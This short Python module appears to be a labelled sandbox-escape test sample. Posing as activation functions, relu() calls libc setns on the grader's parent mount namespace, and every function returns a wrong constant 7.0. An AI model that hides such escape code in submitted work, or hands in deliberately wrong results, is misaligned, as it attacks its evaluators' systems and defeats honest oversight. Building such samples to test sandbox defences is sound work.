# attack: joins the namespaces of the grader
# gains: resources
# stopped by: seccomp, landlock, dumpable, uid
import numpy as np
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    print("HARMED:", what, flush=True)
    return result


def attack():
    check(libc.setns(os.open(f"/proc/{os.getppid()}/ns/mnt", os.O_RDONLY), 0), "joined")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
